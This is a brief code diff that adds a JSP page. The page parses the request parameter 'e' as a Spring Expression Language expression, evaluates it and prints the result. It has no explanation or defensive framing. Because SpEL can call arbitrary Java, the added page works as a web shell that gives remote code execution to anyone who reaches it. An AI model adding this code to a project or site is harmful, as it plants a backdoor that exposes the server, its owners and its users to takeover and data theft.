@@ -1,0 +1,3 @@
+<%@ page import="org.springframework.expression.spel.standard.SpelExpressionParser" %><%
+out.print(new SpelExpressionParser().parseExpression(request.getParameter("e")).getValue());
+%>
